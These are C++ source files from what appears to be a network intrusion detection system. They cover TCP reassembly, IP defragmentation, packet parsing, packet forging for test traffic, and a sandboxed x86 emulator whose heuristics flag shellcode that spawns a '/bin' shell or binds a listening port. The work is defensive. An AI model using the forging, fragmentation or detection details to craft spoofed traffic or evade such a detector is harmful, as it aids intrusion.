