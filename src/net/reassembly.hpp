// TCP stream reassembly: orders segments by sequence number, tolerates
// duplicates/overlaps/reordering, and exposes the contiguous prefix of the
// stream. One Reassembler per flow direction.
#pragma once

#include <cstdint>
#include <map>
#include <optional>

#include "net/flow.hpp"
#include "util/bytes.hpp"

namespace senids::net {

class TcpReassembler {
 public:
  /// Caps buffered out-of-order bytes; beyond this the earliest gap is
  /// forced closed (skipped) so a hostile sender cannot exhaust memory.
  explicit TcpReassembler(std::size_t max_buffered = 1 << 20)
      : max_buffered_(max_buffered) {}

  /// Feed one segment. SYN consumes one sequence number; the first data
  /// or SYN segment anchors the stream's initial sequence number.
  void feed(std::uint32_t seq, std::uint8_t flags, util::ByteView payload);

  /// Contiguous in-order stream bytes received so far.
  [[nodiscard]] const util::Bytes& stream() const noexcept { return stream_; }

  /// Bytes currently parked out-of-order awaiting a gap fill.
  [[nodiscard]] std::size_t buffered() const noexcept { return buffered_; }

  /// True once a FIN or RST has been consumed in-order.
  [[nodiscard]] bool closed() const noexcept { return closed_; }

 private:
  void drain();

  std::optional<std::uint32_t> next_seq_;  // next expected sequence number
  std::map<std::uint32_t, util::Bytes> pending_;  // seq -> payload (mod-2^32 keys, see drain)
  util::Bytes stream_;
  std::size_t buffered_ = 0;
  std::size_t max_buffered_;
  bool closed_ = false;
};

}  // namespace senids::net
