// TCP stream reassembly: orders segments by sequence number, tolerates
// duplicates/overlaps/reordering, and exposes the contiguous prefix of the
// stream. One Reassembler per flow direction.
#pragma once

#include <cstdint>
#include <map>
#include <optional>

#include "net/flow.hpp"
#include "util/bytes.hpp"

namespace senids::net {

class TcpReassembler {
 public:
  /// Two independent caps bound the per-flow state:
  ///  - `max_buffered` caps out-of-order bytes parked awaiting a gap
  ///    fill: beyond it the earliest gap is forced closed (skipped) so a
  ///    hostile sender cannot exhaust memory with never-filled holes;
  ///  - `max_stream` caps the assembled in-order stream: it stops growing
  ///    at the cap (the truncated() flag is raised, sequence tracking
  ///    continues so close detection still works) so a long-lived flow
  ///    cannot accumulate an unbounded stream either.
  explicit TcpReassembler(std::size_t max_buffered = 1 << 20,
                          std::size_t max_stream = 1 << 20)
      : max_buffered_(max_buffered), max_stream_(max_stream) {}

  /// Feed one segment. SYN consumes one sequence number; the first data
  /// or SYN segment anchors the stream's initial sequence number.
  void feed(std::uint32_t seq, std::uint8_t flags, util::ByteView payload);

  /// Contiguous in-order stream bytes received so far (at most max_stream).
  [[nodiscard]] const util::Bytes& stream() const noexcept { return stream_; }

  /// Move the assembled stream out (the reassembler keeps tracking
  /// sequence numbers, but the extracted bytes are gone). Used by the
  /// engine when it flushes a flow as an analysis unit.
  [[nodiscard]] util::Bytes take_stream() noexcept { return std::move(stream_); }

  /// Bytes currently parked out-of-order awaiting a gap fill.
  [[nodiscard]] std::size_t buffered() const noexcept { return buffered_; }

  /// True once a FIN or RST has been consumed in-order. A control flag
  /// that arrives ahead of a hole is remembered and honoured as soon as
  /// delivery catches up to it (see close_seq_).
  [[nodiscard]] bool closed() const noexcept { return closed_; }

  /// True once the assembled stream hit max_stream and further in-order
  /// data was dropped. The engine flushes such flows immediately: the
  /// truncated prefix is everything that will ever be available.
  [[nodiscard]] bool truncated() const noexcept { return truncated_; }

 private:
  void drain();
  void append_stream(const util::Bytes& data, std::size_t skip);
  void maybe_close();

  std::optional<std::uint32_t> next_seq_;  // next expected sequence number
  std::optional<std::uint32_t> close_seq_; // seq just past an out-of-order FIN/RST
  std::map<std::uint32_t, util::Bytes> pending_;  // seq -> payload (mod-2^32 keys, see drain)
  util::Bytes stream_;
  std::size_t buffered_ = 0;
  std::size_t max_buffered_;
  std::size_t max_stream_;
  bool closed_ = false;
  bool truncated_ = false;
};

}  // namespace senids::net
