// Decoded view of one captured frame: the NIDS front end turns raw pcap
// records into ParsedPacket before classification.
#pragma once

#include <cstdint>
#include <optional>

#include "net/headers.hpp"
#include "util/bytes.hpp"

namespace senids::net {

enum class Transport : std::uint8_t { kNone, kTcp, kUdp, kOtherIp, kFragment };

/// A fully decoded frame. Payload is an *owning* copy so packets outlive
/// their capture buffer (the parallel pipeline hands packets across
/// threads).
struct ParsedPacket {
  std::uint32_t ts_sec = 0;
  std::uint32_t ts_usec = 0;
  EthernetHeader eth;
  Ipv4Header ip;
  Transport transport = Transport::kNone;
  TcpHeader tcp;  // valid iff transport == kTcp
  UdpHeader udp;  // valid iff transport == kUdp
  util::Bytes payload;

  [[nodiscard]] std::uint16_t src_port() const noexcept {
    return transport == Transport::kTcp ? tcp.src_port
           : transport == Transport::kUdp ? udp.src_port : 0;
  }
  [[nodiscard]] std::uint16_t dst_port() const noexcept {
    return transport == Transport::kTcp ? tcp.dst_port
           : transport == Transport::kUdp ? udp.dst_port : 0;
  }
};

/// Decode an Ethernet frame. Returns nullopt for frames the NIDS does not
/// inspect (non-IPv4, malformed, truncated). IP fragments are returned
/// with transport == kFragment and the raw IP payload; feed them to a
/// net::Defragmenter and re-parse with parse_reassembled.
std::optional<ParsedPacket> parse_frame(util::ByteView frame, std::uint32_t ts_sec = 0,
                                        std::uint32_t ts_usec = 0);

/// Decode only as far as the IPv4 source address — the cheap prefix of
/// parse_frame used by the shard dispatcher to route frames by source
/// affinity without paying for L4 decoding or a payload copy. Returns
/// nullopt exactly when parse_frame would (non-IPv4 or truncated before
/// the IP header); such frames can go to any shard.
std::optional<Ipv4Addr> peek_src(util::ByteView frame);

/// Build a ParsedPacket from a reassembled IP datagram (header + full
/// payload), decoding the transport layer.
std::optional<ParsedPacket> parse_reassembled(const Ipv4Header& header,
                                              util::ByteView ip_payload,
                                              std::uint32_t ts_sec = 0,
                                              std::uint32_t ts_usec = 0);

}  // namespace senids::net
