#include "net/forge.hpp"

namespace senids::net {

using util::Bytes;
using util::ByteView;

namespace {
Bytes forge_ip_frame(const Endpoint& src, const Endpoint& dst, std::uint8_t proto,
                     std::size_t l4_len, const ForgeOptions& opts) {
  Bytes frame;
  frame.reserve(EthernetHeader::kSize + Ipv4Header::kSize + l4_len);
  EthernetHeader eth;
  eth.src = opts.src_mac;
  eth.dst = opts.dst_mac;
  eth.encode(frame);
  Ipv4Header ip;
  ip.ttl = opts.ttl;
  ip.identification = opts.ip_id;
  ip.protocol = proto;
  ip.src = src.ip;
  ip.dst = dst.ip;
  ip.encode(frame, l4_len);
  return frame;
}
}  // namespace

Bytes forge_tcp(const Endpoint& src, const Endpoint& dst, std::uint32_t seq,
                ByteView payload, std::uint8_t flags, const ForgeOptions& opts) {
  Bytes frame = forge_ip_frame(src, dst, kIpProtoTcp, TcpHeader::kSize + payload.size(), opts);
  TcpHeader tcp;
  tcp.src_port = src.port;
  tcp.dst_port = dst.port;
  tcp.seq = seq;
  tcp.ack = 1;
  tcp.flags = flags;
  tcp.encode(frame, src.ip, dst.ip, payload);
  return frame;
}

Bytes forge_syn(const Endpoint& src, const Endpoint& dst, std::uint32_t seq,
                const ForgeOptions& opts) {
  Bytes frame = forge_ip_frame(src, dst, kIpProtoTcp, TcpHeader::kSize, opts);
  TcpHeader tcp;
  tcp.src_port = src.port;
  tcp.dst_port = dst.port;
  tcp.seq = seq;
  tcp.ack = 0;
  tcp.flags = kTcpSyn;
  tcp.encode(frame, src.ip, dst.ip, {});
  return frame;
}

Bytes forge_udp(const Endpoint& src, const Endpoint& dst, ByteView payload,
                const ForgeOptions& opts) {
  Bytes frame = forge_ip_frame(src, dst, kIpProtoUdp, UdpHeader::kSize + payload.size(), opts);
  UdpHeader udp;
  udp.src_port = src.port;
  udp.dst_port = dst.port;
  udp.encode(frame, src.ip, dst.ip, payload);
  return frame;
}

std::vector<util::Bytes> fragment_frame(util::ByteView frame, std::size_t mtu_payload) {
  mtu_payload &= ~std::size_t{7};  // fragment offsets count in 8-byte units
  std::vector<util::Bytes> out;

  util::Cursor cur(frame);
  auto eth = EthernetHeader::decode(cur);
  auto ip = Ipv4Header::decode(cur);
  if (!eth || !ip || mtu_payload == 0) {
    out.emplace_back(frame.begin(), frame.end());
    return out;
  }
  util::ByteView payload = cur.rest();
  if (ip->total_length >= Ipv4Header::kSize) {
    payload = payload.first(std::min<std::size_t>(ip->total_length - Ipv4Header::kSize,
                                                  payload.size()));
  }
  if (payload.size() <= mtu_payload) {
    out.emplace_back(frame.begin(), frame.end());
    return out;
  }

  std::size_t off = 0;
  while (off < payload.size()) {
    const std::size_t chunk = std::min(mtu_payload, payload.size() - off);
    Bytes f;
    eth->encode(f);
    Ipv4Header h = *ip;
    h.total_length = 0;  // recompute for the fragment
    h.fragment_offset = static_cast<std::uint16_t>(off / 8);
    h.more_fragments = off + chunk < payload.size();
    h.encode(f, chunk);
    f.insert(f.end(), payload.begin() + static_cast<std::ptrdiff_t>(off),
             payload.begin() + static_cast<std::ptrdiff_t>(off + chunk));
    out.push_back(std::move(f));
    off += chunk;
  }
  return out;
}

}  // namespace senids::net
