// Packet construction helpers for the workload generators: build complete,
// checksum-correct Ethernet frames from payload bytes.
#pragma once

#include <vector>

#include "net/headers.hpp"
#include "util/bytes.hpp"

namespace senids::net {

/// Endpoint shorthand used throughout the generators.
struct Endpoint {
  Ipv4Addr ip;
  std::uint16_t port = 0;
};

/// Parameters common to both transports.
struct ForgeOptions {
  MacAddr src_mac = MacAddr::from_u64(0x020000000001);
  MacAddr dst_mac = MacAddr::from_u64(0x020000000002);
  std::uint8_t ttl = 64;
  std::uint16_t ip_id = 0;
};

/// One TCP segment carrying `payload` (PSH|ACK by default).
util::Bytes forge_tcp(const Endpoint& src, const Endpoint& dst, std::uint32_t seq,
                      util::ByteView payload, std::uint8_t flags = kTcpPsh | kTcpAck,
                      const ForgeOptions& opts = {});

/// A bare TCP SYN (used by the scan generator for dark-space probes).
util::Bytes forge_syn(const Endpoint& src, const Endpoint& dst, std::uint32_t seq = 0,
                      const ForgeOptions& opts = {});

/// One UDP datagram carrying `payload`.
util::Bytes forge_udp(const Endpoint& src, const Endpoint& dst, util::ByteView payload,
                      const ForgeOptions& opts = {});

/// Split an already-forged Ethernet/IPv4 frame into fragment frames whose
/// IP payloads carry at most `mtu_payload` bytes (rounded down to the
/// 8-byte fragment granularity). Returns the input unchanged when it fits.
std::vector<util::Bytes> fragment_frame(util::ByteView frame, std::size_t mtu_payload);

}  // namespace senids::net
