#include "net/defrag.hpp"

namespace senids::net {

std::optional<ReassembledDatagram> Defragmenter::feed(const Ipv4Header& hdr,
                                                      util::ByteView payload) {
  const Key key{hdr.src.value, hdr.dst.value, hdr.identification, hdr.protocol};
  Pending& p = table_[key];
  p.arrival = ++clock_;

  if (hdr.fragment_offset == 0) {
    p.first_header = hdr;
    p.have_first = true;
  }
  if (!hdr.more_fragments) {
    p.total_len = static_cast<std::size_t>(hdr.fragment_offset) * 8 + payload.size();
  }
  auto [it, inserted] = p.pieces.try_emplace(
      hdr.fragment_offset, util::Bytes(payload.begin(), payload.end()));
  if (inserted) {
    buffered_ += it->second.size();
    evict_if_needed();
    // Eviction may have dropped this very datagram under memory pressure.
    auto self = table_.find(key);
    if (self == table_.end()) return std::nullopt;
  }

  auto result = try_assemble(key, table_[key]);
  if (result) {
    for (const auto& [off, piece] : table_[key].pieces) buffered_ -= piece.size();
    table_.erase(key);
  }
  return result;
}

std::optional<ReassembledDatagram> Defragmenter::try_assemble(const Key&, Pending& p) {
  if (!p.have_first || !p.total_len) return std::nullopt;
  // Walk pieces in offset order and check contiguity.
  util::Bytes out;
  out.reserve(*p.total_len);
  std::size_t expect = 0;
  for (const auto& [off_units, piece] : p.pieces) {
    const std::size_t off = static_cast<std::size_t>(off_units) * 8;
    if (off > expect) return std::nullopt;  // hole
    if (off + piece.size() <= expect) continue;  // duplicate/overlap: keep first copy
    out.insert(out.end(), piece.begin() + static_cast<std::ptrdiff_t>(expect - off),
               piece.end());
    expect = off + piece.size();
  }
  if (expect < *p.total_len) return std::nullopt;
  out.resize(*p.total_len);

  ReassembledDatagram d;
  d.header = p.first_header;
  d.header.more_fragments = false;
  d.header.fragment_offset = 0;
  d.header.total_length =
      static_cast<std::uint16_t>(Ipv4Header::kSize + out.size());
  d.payload = std::move(out);
  return d;
}

void Defragmenter::evict_if_needed() {
  while (buffered_ > max_buffered_ && !table_.empty()) {
    auto oldest = table_.begin();
    for (auto it = table_.begin(); it != table_.end(); ++it) {
      if (it->second.arrival < oldest->second.arrival) oldest = it;
    }
    for (const auto& [off, piece] : oldest->second.pieces) buffered_ -= piece.size();
    table_.erase(oldest);
    ++dropped_;
    if (metrics_ && metrics_->dropped) metrics_->dropped->add();
  }
}

}  // namespace senids::net
