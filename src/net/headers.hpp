// Wire-format codecs for the protocol stack the paper's traces use:
// Ethernet II / IPv4 / {TCP, UDP}. Encode is used by the traffic
// generators; decode by the NIDS front end.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>

#include "util/bytes.hpp"

namespace senids::net {

// ---------------------------------------------------------------- addresses

struct MacAddr {
  std::array<std::uint8_t, 6> octets{};

  static MacAddr from_u64(std::uint64_t v) noexcept;
  [[nodiscard]] std::string str() const;
  friend bool operator==(const MacAddr&, const MacAddr&) = default;
};

/// IPv4 address held in host byte order for arithmetic convenience
/// (subnet math in the dark-space classifier).
struct Ipv4Addr {
  std::uint32_t value = 0;

  static constexpr Ipv4Addr from_octets(std::uint8_t a, std::uint8_t b, std::uint8_t c,
                                        std::uint8_t d) noexcept {
    return Ipv4Addr{(std::uint32_t{a} << 24) | (std::uint32_t{b} << 16) |
                    (std::uint32_t{c} << 8) | d};
  }
  /// Parse dotted quad; nullopt on malformed text.
  static std::optional<Ipv4Addr> parse(std::string_view text);

  [[nodiscard]] std::string str() const;
  friend auto operator<=>(const Ipv4Addr&, const Ipv4Addr&) = default;
};

// ------------------------------------------------------------------ headers

inline constexpr std::uint16_t kEtherTypeIpv4 = 0x0800;
inline constexpr std::uint8_t kIpProtoTcp = 6;
inline constexpr std::uint8_t kIpProtoUdp = 17;

struct EthernetHeader {
  MacAddr dst;
  MacAddr src;
  std::uint16_t ethertype = kEtherTypeIpv4;

  static constexpr std::size_t kSize = 14;
  void encode(util::Bytes& out) const;
  static std::optional<EthernetHeader> decode(util::Cursor& cur);
};

struct Ipv4Header {
  std::uint8_t tos = 0;
  std::uint16_t total_length = 0;  // filled by encoder when 0
  std::uint16_t identification = 0;
  bool more_fragments = false;      // MF flag
  std::uint16_t fragment_offset = 0;  // in 8-byte units
  std::uint8_t ttl = 64;
  std::uint8_t protocol = kIpProtoTcp;
  Ipv4Addr src;
  Ipv4Addr dst;

  [[nodiscard]] bool is_fragment() const noexcept {
    return more_fragments || fragment_offset != 0;
  }

  static constexpr std::size_t kSize = 20;  // we neither emit nor need options
  /// Encodes with a correct header checksum; if total_length is zero it is
  /// computed as kSize + payload_len.
  void encode(util::Bytes& out, std::size_t payload_len) const;
  /// Decodes and verifies version/IHL; skips options; does not verify the
  /// checksum (caller may, via header_checksum_ok).
  static std::optional<Ipv4Header> decode(util::Cursor& cur);
};

/// TCP flag bits.
inline constexpr std::uint8_t kTcpFin = 0x01;
inline constexpr std::uint8_t kTcpSyn = 0x02;
inline constexpr std::uint8_t kTcpRst = 0x04;
inline constexpr std::uint8_t kTcpPsh = 0x08;
inline constexpr std::uint8_t kTcpAck = 0x10;

struct TcpHeader {
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint32_t seq = 0;
  std::uint32_t ack = 0;
  std::uint8_t flags = kTcpAck;
  std::uint16_t window = 65535;

  static constexpr std::size_t kSize = 20;
  /// Encodes with a correct checksum over the IPv4 pseudo-header.
  void encode(util::Bytes& out, const Ipv4Addr& src_ip, const Ipv4Addr& dst_ip,
              util::ByteView payload) const;
  static std::optional<TcpHeader> decode(util::Cursor& cur);
};

struct UdpHeader {
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;

  static constexpr std::size_t kSize = 8;
  void encode(util::Bytes& out, const Ipv4Addr& src_ip, const Ipv4Addr& dst_ip,
              util::ByteView payload) const;
  static std::optional<UdpHeader> decode(util::Cursor& cur);
};

/// RFC 1071 internet checksum over `data` (+ optional preloaded sum).
std::uint16_t internet_checksum(util::ByteView data, std::uint32_t initial = 0);

}  // namespace senids::net
