#include "emu/shellemu.hpp"

#include <algorithm>

#include "obs/metrics.hpp"
#include "arch/arch.hpp"
#include "arch/scan.hpp"

namespace senids::emu {

namespace {

/// Process-wide sandbox counters. Per-stop-reason totals matter beyond
/// capacity planning: emulation-evasion work (arXiv:0906.1963) shows
/// step/bailout distributions are themselves a detection signal — code
/// engineered to exhaust or escape the sandbox skews them.
struct EmuMetrics {
  obs::Counter& frames;
  obs::Counter& runs;
  obs::Counter& steps;
  std::array<obs::Counter*, 9> stops;  // indexed by StopReason
};

EmuMetrics& emu_metrics() {
  auto& r = obs::Registry::instance();
  static EmuMetrics m = [&] {
    EmuMetrics e{
        r.counter("senids_emu_frames_total", "Frames handed to the sandbox"),
        r.counter("senids_emu_runs_total", "Sandbox runs (candidate entries tried)"),
        r.counter("senids_emu_steps_total", "Instructions executed in the sandbox"),
        {},
    };
    for (std::size_t i = 0; i < e.stops.size(); ++i) {
      e.stops[i] = &r.counter("senids_emu_stop_total",
                              "Sandbox runs ended, by stop reason", "reason",
                              stop_reason_name(static_cast<StopReason>(i)));
    }
    return e;
  }();
  return m;
}

}  // namespace

namespace {

// Vector the 64-bit `syscall` instruction is recorded under.
const std::uint16_t kSyscall64Vector =
    senids::arch::Arch::x86_64().syscall_conventions()[0].vector;

}  // namespace

bool EmulationResult::made_syscall() const {
  return std::any_of(syscalls.begin(), syscalls.end(), [](const EmulatedSyscall& s) {
    return s.vector == 0x80 || s.vector == kSyscall64Vector;
  });
}

bool EmulationResult::spawned_shell() const {
  for (const EmulatedSyscall& s : syscalls) {
    const bool execve32 = s.vector == 0x80 && (s.eax & 0xff) == 0x0b;
    const bool execve64 = s.vector == kSyscall64Vector && s.eax == 59;
    if (!execve32 && !execve64) continue;
    if (s.ebx_string.rfind("/bin", 0) == 0) return true;
  }
  return false;
}

bool EmulationResult::bound_port() const {
  // i386: socketcall socket(1) then bind(2) then listen(4), in order.
  static constexpr std::uint8_t kSequence[] = {1, 2, 4};
  std::size_t want = 0;
  // x86-64: direct socket(41) then bind(49) then listen(50), in order.
  static constexpr std::uint32_t kSequence64[] = {41, 49, 50};
  std::size_t want64 = 0;
  for (const EmulatedSyscall& s : syscalls) {
    if (s.vector == 0x80 && (s.eax & 0xff) == 0x66) {
      if ((s.ebx & 0xff) == kSequence[want] && ++want == std::size(kSequence)) {
        return true;
      }
    } else if (s.vector == kSyscall64Vector) {
      if (s.eax == kSequence64[want64] && ++want64 == std::size(kSequence64)) {
        return true;
      }
    }
  }
  return false;
}

EmulationResult emulate_entry(util::ByteView frame, std::size_t entry,
                              const EmulatorOptions& options) {
  EmulationResult result;
  result.entry = entry;
  if (entry >= frame.size()) {
    result.stop = StopReason::kUnmappedFetch;
    EmuMetrics& metrics = emu_metrics();
    metrics.runs.add();
    metrics.stops[static_cast<std::size_t>(result.stop)]->add();
    return result;
  }

  VirtualMemory mem(frame);
  Cpu cpu(mem, kFrameBase + static_cast<std::uint32_t>(entry), options.mode);

  std::uint32_t next_fd = 3;  // plausible kernel returns for socket-ish calls
  auto hook = [&](const SyscallRecord& rec) -> std::optional<std::uint32_t> {
    EmulatedSyscall s;
    s.vector = rec.vector;
    if (rec.vector == kSyscall64Vector) {
      // Normalize the x86-64 convention: number in rax, args rdi,rsi,rdx.
      s.eax = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kAx));
      s.ebx = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kDi));
      s.ecx = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kSi));
      s.edx = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kDx));
    } else {
      s.eax = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kAx));
      s.ebx = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kBx));
      s.ecx = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kCx));
      s.edx = static_cast<std::uint32_t>(rec.reg(arch::RegFamily::kDx));
    }
    if (auto str = mem.read_cstring(s.ebx)) s.ebx_string = *str;
    const bool execve = (rec.vector == 0x80 && (s.eax & 0xff) == 0x0b) ||
                        (rec.vector == kSyscall64Vector && s.eax == 59);
    const bool wants_fd = (rec.vector == 0x80 && (s.eax & 0xff) == 0x66) ||
                          (rec.vector == kSyscall64Vector &&
                           (s.eax == 41 || s.eax == 43));
    result.syscalls.push_back(std::move(s));
    if (result.syscalls.size() >= options.max_syscalls) return std::nullopt;
    // execve does not return on success; stopping here mirrors reality
    // and keeps the trace clean.
    if (execve) return std::nullopt;
    if (wants_fd) return next_fd++;
    return 0;
  };

  result.stop = cpu.run(options.max_steps, hook);
  result.steps = cpu.steps();
  result.frame_bytes_modified = mem.frame_bytes_modified();
  if (result.frame_bytes_modified > 0) {
    result.decoded_frame = mem.snapshot_frame();
  }
  EmuMetrics& metrics = emu_metrics();
  metrics.runs.add();
  metrics.steps.add(result.steps);
  const auto stop_index = static_cast<std::size_t>(result.stop);
  if (stop_index < metrics.stops.size()) metrics.stops[stop_index]->add();
  return result;
}

EmulationResult emulate_frame(util::ByteView frame, const EmulatorOptions& options) {
  emu_metrics().frames.add();
  auto runs = arch::find_code_runs(frame, options.min_run_insns, options.mode);
  std::stable_sort(runs.begin(), runs.end(), [](const arch::CodeRun& a,
                                                const arch::CodeRun& b) {
    return a.insn_count > b.insn_count;
  });

  EmulationResult best;
  auto better = [](const EmulationResult& a, const EmulationResult& b) {
    // Prefer syscall evidence, then self-modification, then longer runs.
    const auto score = [](const EmulationResult& r) {
      return std::tuple(r.made_syscall(), r.frame_bytes_modified, r.steps);
    };
    return score(a) > score(b);
  };

  std::size_t tried = 0;
  for (const auto& run : runs) {
    if (tried++ >= options.max_entries) break;
    EmulationResult r = emulate_entry(frame, run.start, options);
    if (better(r, best)) best = std::move(r);
    if (best.spawned_shell() || best.bound_port()) break;  // decisive
  }
  return best;
}

}  // namespace senids::emu
