// Emulated flat memory for shellcode execution: the analyzed frame is
// mapped read/write at a fixed base, a zero-initialized stack region sits
// below a fixed top, and all writes land in a sparse overlay so the
// original frame stays untouched. Self-modification (decoders rewriting
// their payload) is tracked byte-exactly.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <unordered_map>

#include "util/bytes.hpp"

namespace senids::emu {

inline constexpr std::uint32_t kFrameBase = 0x00400000;
inline constexpr std::uint32_t kStackTop = 0xbf000000;
inline constexpr std::uint32_t kStackSize = 0x10000;

class VirtualMemory {
 public:
  explicit VirtualMemory(util::ByteView frame) : frame_(frame) {}

  /// Read one byte; nullopt for unmapped addresses.
  [[nodiscard]] std::optional<std::uint8_t> read8(std::uint32_t addr) const;
  [[nodiscard]] std::optional<std::uint16_t> read16(std::uint32_t addr) const;
  [[nodiscard]] std::optional<std::uint32_t> read32(std::uint32_t addr) const;

  /// Write into the overlay; returns false for unmapped addresses.
  bool write8(std::uint32_t addr, std::uint8_t value);
  bool write16(std::uint32_t addr, std::uint16_t value);
  bool write32(std::uint32_t addr, std::uint32_t value);

  [[nodiscard]] bool mapped(std::uint32_t addr) const {
    return in_frame(addr) || in_stack(addr);
  }
  [[nodiscard]] bool in_frame(std::uint32_t addr) const {
    return addr >= kFrameBase && addr - kFrameBase < frame_.size();
  }
  [[nodiscard]] static bool in_stack(std::uint32_t addr) {
    return addr >= kStackTop - kStackSize && addr < kStackTop;
  }

  /// Number of frame bytes modified by writes so far.
  [[nodiscard]] std::size_t frame_bytes_modified() const noexcept {
    return frame_writes_;
  }

  /// The frame contents with all writes applied (the "decoded" frame a
  /// decryption loop produces).
  [[nodiscard]] util::Bytes snapshot_frame() const;

  /// Read a NUL-terminated string (capped), e.g. an execve path.
  [[nodiscard]] std::optional<std::string> read_cstring(std::uint32_t addr,
                                                        std::size_t max_len = 256) const;

 private:
  util::ByteView frame_;
  std::unordered_map<std::uint32_t, std::uint8_t> overlay_;
  std::size_t frame_writes_ = 0;
};

}  // namespace senids::emu
