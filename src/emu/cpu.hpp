// Concrete x86 interpreter over VirtualMemory, covering IA-32 and x86-64
// long mode. This is the dynamic counterpart of the static semantic
// analyzer: it lets a decoder loop actually run (GetPC, key schedule,
// decode, jump into the decoded bytes), records every int/`syscall`
// instruction as a syscall event, and stops on anything outside the
// sandbox. No instruction ever touches the host.
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <optional>
#include <vector>

#include "emu/memory.hpp"
#include "arch/decoder.hpp"

namespace senids::emu {

enum class StopReason : std::uint8_t {
  kRunning,        // internal
  kMaxSteps,       // budget exhausted
  kInvalidInsn,    // undecodable bytes at eip
  kUnmappedFetch,  // eip left the sandbox
  kUnmappedAccess, // data access outside frame/stack
  kUnsupported,    // instruction the interpreter refuses to model
  kHalted,         // hlt / int3
  kSyscallStop,    // syscall hook requested a stop
  kDivByZero,
};

std::string_view stop_reason_name(StopReason r) noexcept;

struct SyscallRecord {
  /// Interrupt vector for `int n`; arch::Arch::syscall_conventions()
  /// vector (0x100) for the x86-64 `syscall` instruction.
  std::uint16_t vector = 0;
  std::array<std::uint64_t, 16> regs{};  // rax..r15 at the syscall instruction
  std::size_t step = 0;

  [[nodiscard]] std::uint64_t reg(arch::RegFamily f) const {
    return regs[static_cast<unsigned>(f)];
  }
};

class Cpu {
 public:
  /// Hook invoked at every `int` / `syscall` instruction. Return the value
  /// to place in eax/rax (emulating a kernel return) to continue, or
  /// nullopt to stop.
  using SyscallHook = std::function<std::optional<std::uint32_t>(const SyscallRecord&)>;

  Cpu(VirtualMemory& mem, std::uint32_t entry_va,
      arch::Mode mode = arch::Mode::k32);

  /// Execute until a stop condition; at most `max_steps` instructions.
  StopReason run(std::size_t max_steps, const SyscallHook& hook = nullptr);

  [[nodiscard]] std::uint64_t reg(arch::RegFamily f) const {
    return regs_[static_cast<unsigned>(f)];
  }
  void set_reg(arch::RegFamily f, std::uint64_t v) { regs_[static_cast<unsigned>(f)] = v; }
  [[nodiscard]] std::uint64_t eip() const noexcept { return eip_; }
  [[nodiscard]] arch::Mode mode() const noexcept { return mode_; }
  [[nodiscard]] std::size_t steps() const noexcept { return steps_; }

 private:
  struct Flags {
    bool cf = false, zf = false, sf = false, of = false, pf = false, df = false;
  };

  // Width-aware register and operand access. Values travel as uint64; each
  // access masks to its operand width, and in 32-bit mode every register
  // is re-masked to 32 bits after each step so wraparound semantics match
  // a real IA-32 machine exactly.
  [[nodiscard]] std::uint64_t read_reg(arch::Reg r) const;
  void write_reg(arch::Reg r, std::uint64_t v);
  [[nodiscard]] std::uint64_t mem_addr(const arch::MemRef& m) const;
  std::optional<std::uint64_t> read_operand(const arch::Operand& op, unsigned bits);
  bool write_operand(const arch::Operand& op, unsigned bits, std::uint64_t v);
  std::optional<std::uint64_t> load(std::uint64_t addr, unsigned bits);
  bool store(std::uint64_t addr, unsigned bits, std::uint64_t v);

  void set_logic_flags(std::uint64_t result, unsigned bits);
  void set_add_flags(std::uint64_t a, std::uint64_t b, std::uint64_t result,
                     bool carry, unsigned bits);
  void set_sub_flags(std::uint64_t a, std::uint64_t b, unsigned bits);
  [[nodiscard]] bool cond_holds(arch::Cond c) const;

  /// Execute one instruction; updates eip_ and stop_.
  void step(const SyscallHook& hook);

  VirtualMemory& mem_;
  arch::Mode mode_;
  std::array<std::uint64_t, 16> regs_{};
  std::uint64_t eip_;
  Flags flags_;
  std::size_t steps_ = 0;
  std::uint64_t cur_insn_end_ = 0;  // VA just past the executing instruction
  std::uint32_t last_fpu_va_ = 0;  // FIP recorded by the last FPU instruction
  StopReason stop_ = StopReason::kRunning;
};

}  // namespace senids::emu
