// Concrete IA-32 interpreter over VirtualMemory. This is the dynamic
// counterpart of the static semantic analyzer: it lets a decoder loop
// actually run (GetPC, key schedule, decode, jump into the decoded
// bytes), records every int instruction as a syscall event, and stops on
// anything outside the sandbox. No instruction ever touches the host.
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <optional>
#include <vector>

#include "emu/memory.hpp"
#include "x86/decoder.hpp"

namespace senids::emu {

enum class StopReason : std::uint8_t {
  kRunning,        // internal
  kMaxSteps,       // budget exhausted
  kInvalidInsn,    // undecodable bytes at eip
  kUnmappedFetch,  // eip left the sandbox
  kUnmappedAccess, // data access outside frame/stack
  kUnsupported,    // instruction the interpreter refuses to model
  kHalted,         // hlt / int3
  kSyscallStop,    // syscall hook requested a stop
  kDivByZero,
};

std::string_view stop_reason_name(StopReason r) noexcept;

struct SyscallRecord {
  std::uint8_t vector = 0;
  std::array<std::uint32_t, 8> regs{};  // eax..edi at the int instruction
  std::size_t step = 0;

  [[nodiscard]] std::uint32_t reg(x86::RegFamily f) const {
    return regs[static_cast<unsigned>(f)];
  }
};

class Cpu {
 public:
  /// Hook invoked at every `int` instruction. Return the value to place
  /// in eax (emulating a kernel return) to continue, or nullopt to stop.
  using SyscallHook = std::function<std::optional<std::uint32_t>(const SyscallRecord&)>;

  Cpu(VirtualMemory& mem, std::uint32_t entry_va);

  /// Execute until a stop condition; at most `max_steps` instructions.
  StopReason run(std::size_t max_steps, const SyscallHook& hook = nullptr);

  [[nodiscard]] std::uint32_t reg(x86::RegFamily f) const {
    return regs_[static_cast<unsigned>(f)];
  }
  void set_reg(x86::RegFamily f, std::uint32_t v) { regs_[static_cast<unsigned>(f)] = v; }
  [[nodiscard]] std::uint32_t eip() const noexcept { return eip_; }
  [[nodiscard]] std::size_t steps() const noexcept { return steps_; }

 private:
  struct Flags {
    bool cf = false, zf = false, sf = false, of = false, pf = false, df = false;
  };

  // Width-aware register and operand access.
  [[nodiscard]] std::uint32_t read_reg(x86::Reg r) const;
